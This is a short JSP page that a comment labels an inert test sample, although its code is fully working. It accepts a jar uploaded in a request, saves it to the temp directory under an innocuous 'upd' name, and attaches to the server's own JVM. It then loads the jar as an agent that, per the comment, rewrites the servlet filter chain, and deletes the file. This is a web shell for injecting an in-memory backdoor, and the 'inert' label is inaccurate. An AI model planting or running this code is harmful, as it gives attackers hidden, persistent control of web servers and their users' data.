<%@ page import="com.sun.tools.attach.VirtualMachine,java.lang.management.ManagementFactory,java.io.*" %>
<%-- test sample (inert): an agent jar posted to the page is saved, the page attaches to its own VM by
     process id and loads the jar as an agent (it would rewrite the servlet filter chain), then deletes it --%>
<%
    File jar = new File(System.getProperty("java.io.tmpdir"), "upd" + System.nanoTime() + ".jar");
    InputStream in = request.getInputStream();
    OutputStream os = new FileOutputStream(jar);
    byte[] b = new byte[8192];
    for (int n; (n = in.read(b)) > 0; ) os.write(b, 0, n);
    os.close();
    String self = ManagementFactory.getRuntimeMXBean().getName().split("@")[0];
    VirtualMachine vm = VirtualMachine.attach(self);
    try {
        vm.loadAgent(jar.getAbsolutePath(), "mode=filter");
    } finally {
        vm.detach();
        jar.delete();
    }
    out.print("ok");
%>
